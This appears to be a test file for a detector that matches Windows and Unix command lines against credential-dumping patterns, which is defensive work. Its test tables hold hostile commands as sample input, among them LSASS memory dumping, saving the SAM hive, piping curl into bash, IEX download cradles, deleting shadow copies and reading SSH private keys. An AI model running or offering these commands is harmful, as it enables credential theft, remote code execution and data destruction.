import assert from "node:assert/strict";
import fc from "fast-check";
import { globMatches, tokenise } from "../../../../src/mapping/lexicon/command-line.ts";
import { CommandMatcher } from "../../../../src/mapping/lexicon/command-matcher.ts";
import type { CommandKind } from "../../../../src/mapping/lexicon/lexicon.ts";
import { lexiconOf } from "./lexicon-of.ts";

const tokens = (line: string): readonly string[] => tokenise(line, { quotes: true }).map(({ text }) => text);

const matcherOf = (kind: CommandKind, pattern: string): CommandMatcher =>
  new CommandMatcher(lexiconOf({}, { commands: { T1003: { [kind]: [pattern] } } }));

describe("command lines", () => {
  const split: readonly (readonly [line: string, tokens: readonly string[]])[] = [
    ["net user /add", ["net", "user", "-add"]],
    ["schtasks --create -tn x", ["schtasks", "-create", "-tn", "x"]],
    ['reg add "HKCU\\My Key" /v x', ["reg", "add", "hkcu\\my key", "-v", "x"]],
    ["c^m^d /c p`owershell", ["cmd", "-c", "powershell"]],
    ["cat /etc/passwd", ["cat", "/etc/passwd"]],
    ["a && b | c; d", ["a", "&&", "b", "|", "c", ";", "d"]],
    ["curl http://x/?a=1&b=2", ["curl", "http://x/?a=1&b=2"]],
    ['pow"er"shell -enc', ["powershell", "-enc"]],
    ["echo 'it is", ["echo", "it is"]],
    ["don't", ["dont"]],
    ["", []],
  ];
  for (const [line, parts] of split) it(`splits ${line}`, () => assert.deepEqual(tokens(line), parts));

  const globs: readonly (readonly [pattern: string, text: string, fits: boolean])[] = [
    ["*dump*", "procdump64", true],
    ["a*b*c", "a-b-b-c", true],
    ["a*b", "a-b-c", false],
    ["*", "", true],
    ["abc", "abcd", false],
  ];
  for (const [pattern, text, fits] of globs)
    it(`${pattern} ${fits ? "fits" : "does not fit"} ${text}`, () => assert.equal(globMatches(pattern, text), fits));
});

describe("command patterns", () => {
  const table: readonly (readonly [kind: CommandKind, pattern: string, line: string, found: string | undefined])[] = [
    ["cmd", "schtasks /create", "C:\\> schtasks.exe /create /tn Sync", "schtasks.exe /create"],
    [
      "cmd",
      "schtasks /create",
      "C:\\Windows\\System32\\schtasks.exe --create",
      "C:\\Windows\\System32\\schtasks.exe --create",
    ],
    ["cmd", "schtasks /create", "sch^tasks /cr^eate", "sch^tasks /cr^eate"],
    ["cmd", "schtasks /create", "schtasks /query", undefined],
    // A drive is no stream of a file.
    ["cmd", "rundll32 *:*,*", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624", undefined],
    ["cmd", "rundll32 *:*,*", "rundll32 C:\\a\\n.txt:x.dll,Run", "rundll32 C:\\a\\n.txt:x.dll,Run"],
    ["cmd", "schtasks|at.exe /create", "cmd /c at /s x /create", "at /s x /create"],
    ["cmd", "net user * /add", "net user bob P@ss /add", "net user bob P@ss /add"],
    ["cmd", "net user /add", "net view & net user x", undefined],
    ["cmd", "curl * | sh|bash", "curl -s http://x/i | bash", "curl -s http://x/i | bash"],
    ["cmd", "reg save HKLM\\SAM", 'reg save "hklm\\sam" out', 'reg save "hklm\\sam"'],
    ["cmd", "IEX (New-Object", 'powershell -c "IEX (New-Object Net.WebClient)"', "IEX (New-Object"],
    [
      "cmd",
      "IEX (New-Object Net.*",
      'powershell -c "IEX (New-Object Net.WebClient)"',
      "IEX (New-Object Net.WebClient)",
    ],
    ["cmd", "rdrleakdiag /p /fullmemdmp", "rdrleakdiag /p:652 /fullmemdmp", "rdrleakdiag /p:652 /fullmemdmp"],
    ["cmd", "*dump* lsass*", "procdump64 -ma lsass.exe", "procdump64 -ma lsass.exe"],
    [
      "cmd",
      "procdump -ma lsass.exe",
      "procdump64.exe -accepteula -ma lsass.exe x",
      "procdump64.exe -accepteula -ma lsass.exe",
    ],
    ["cmd", "SharpHound -c All", "C:\\t\\SharpHound_x64.exe -c all", "C:\\t\\SharpHound_x64.exe -c all"],
    [
      "cmd",
      "rundll32 comsvcs.dll, MiniDump",
      "rundll32.exe comsvcs.dll MiniDump 624",
      "rundll32.exe comsvcs.dll MiniDump",
    ],
    [
      "cmd",
      "rundll32 comsvcs.dll MiniDump",
      "rundll32.exe comsvcs.dll, MiniDump 624",
      "rundll32.exe comsvcs.dll, MiniDump",
    ],
    [
      "cmd",
      "Get-WmiObject Win32_ShadowCopy Remove-WmiObject",
      "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject",
      "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject",
    ],
    ["cmd", "net user /add", "net user x | find /add", undefined],
    ["cmd", "net user /add", "They ran net user x /add.", "net user x /add."],
    [
      "reg",
      "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\*",
      "reg add HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\x",
      "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa",
    ],
    ["reg", "HKCU\\Software\\*\\Run", "HKCU:\\\\Software\\\\Any\\\\Run", "HKCU:\\\\Software\\\\Any\\\\Run"],
    ["file", "*\\System32\\Tasks\\*", "dir C:/Windows/System32/Tasks/Sync", "/System32/Tasks/"],
    ["file", "ntuser.dat", "copy my-ntuser.database", undefined],
    ["file", "~/.ssh/id_rsa", "cat /home/amy/.ssh/id_rsa", "/home/amy/.ssh/id_rsa"],
    ["api", "CreateRemoteThread", "CreateRemoteThread(h, 0)", "CreateRemoteThread"],
    ["api", "CreateThread", "createthread", undefined],
    ["tool", "nanodump", "NanoDump.x64", "NanoDump"],
    ["event", "4698", "EventID=4698", "EventID=4698"],
    ["event", "4698", "sleep 4698", undefined],
    ["event", "Sysmon 10", "Sysmon Event ID 10", "Sysmon Event ID 10"],
  ];
  for (const [kind, pattern, line, found] of table)
    it(`${kind} ${pattern}: ${line}`, () => {
      const [match] = matcherOf(kind, pattern).find(line);
      assert.equal(match && line.slice(match.start, match.end), found);
    });

  it("counts offsets from the text's beginning", () => {
    const text = "first\nnet user x /add";
    const [match] = matcherOf("cmd", "net user /add").find(text, 6);
    assert.deepEqual(match && [match.start, match.end], [6, text.length]);
  });

  it("never throws and never points outside", () => {
    const part = fc.constantFrom(
      "net",
      "user",
      "/add",
      '"',
      "'",
      "^",
      "`",
      " ",
      "|",
      "&",
      "*",
      "\\",
      "HKLM\\A",
      "lsass",
    );
    const commands = { cmd: ["net user /add", "*dump* lsass*", "a|b | c"], reg: ["HKLM\\A\\*"], file: ["*\\lsass.*"] };
    const matcher = new CommandMatcher(lexiconOf({}, { commands: { T1003: commands } }));
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary" }),
          fc.array(part).map((parts) => parts.join("")),
        ),
        (line) => {
          for (const { start, end } of matcher.find(line)) assert.ok(0 <= start && start < end && end <= line.length);
        },
      ),
    );
  });
});
